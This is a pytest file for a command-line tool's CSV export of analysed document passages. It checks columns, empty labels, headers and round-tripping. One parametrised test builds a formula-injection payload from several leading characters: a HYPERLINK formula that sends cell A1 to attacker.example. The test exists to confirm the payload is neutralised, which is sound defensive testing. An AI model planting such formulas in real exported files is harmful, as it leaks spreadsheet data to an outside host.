"""CSV for spreadsheets: complete, readable again, and nothing in it that would run."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.render import CSV_COLUMNS, csv_lines


def passage(**more: Any) -> dict[str, Any]:
    return {
        "index": 0,
        "page": 3,
        "row": None,
        "section": "Water",
        "language": "en",
        "sentiment": {"label": "negative", "scores": {}},
        "topics": [{"name": "E3", "score": 0.9}, {"name": "E2", "score": 0.6}],
        "action": {"label": "none", "scores": {}},
        "label": None,
        "figures": [{"text": "11 hours"}, {"text": "2025"}],
        "text": "A pump failed, and the river was polluted for 11 hours.",
    } | more


def read(lines: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(lines, newline="")))


def test_a_row_a_passage() -> None:
    """Every column has its value; what is not told is empty."""
    [row] = read("".join(csv_lines([("report.pdf", [passage()])])))
    assert tuple(row) == CSV_COLUMNS
    assert row == {
        "document": "report.pdf",
        "index": "0",
        "page": "3",
        "row": "",
        "section": "Water",
        "language": "en",
        "sentiment": "negative",
        "topics": "E3 E2",
        "action": "none",
        "label": "",
        "figures": "11 hours; 2025",
        "text": "A pump failed, and the river was polluted for 11 hours.",
    }


def test_a_language_that_the_model_does_not_know_has_empty_labels() -> None:
    """Nothing is told, and nothing fails."""
    [row] = read(
        "".join(csv_lines([("r", [passage(language="fr", sentiment=None, topics=[], action=None)])]))
    )
    assert (row["sentiment"], row["topics"], row["action"]) == ("", "", "")


def test_several_documents_have_one_header() -> None:
    """Also where one has no passages, and where there is no document at all."""
    rows = read("".join(csv_lines([("none", []), ("a", [passage()]), ("b", [passage(), passage(index=1)])])))
    assert [(row["document"], row["index"]) for row in rows] == [("a", "0"), ("b", "0"), ("b", "1")]
    assert "".join(csv_lines([])) == ",".join(CSV_COLUMNS) + "\r\n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "\uff1d"])
def test_no_cell_is_a_formula(start: str) -> None:
    """Wherever an uploader's words land: text, section, label or file name."""
    harm = f'{start}HYPERLINK("http://attacker.example/?"&A1)'
    [row] = read("".join(csv_lines([(harm, [passage(text=harm, section=harm, label=harm)])])))
    for column in ("document", "text", "section", "label"):
        assert row[column] == f"'{harm}"


@given(st.text())
def test_any_text_comes_back(text: str) -> None:
    """Quotes, delimiters and line ends in a text do not break its row."""
    text = text.replace("\x00", "")
    [row] = read("".join(csv_lines([("r", [passage(text=text)])])))
    assert row["text"].removeprefix("'") == text.removeprefix("'")
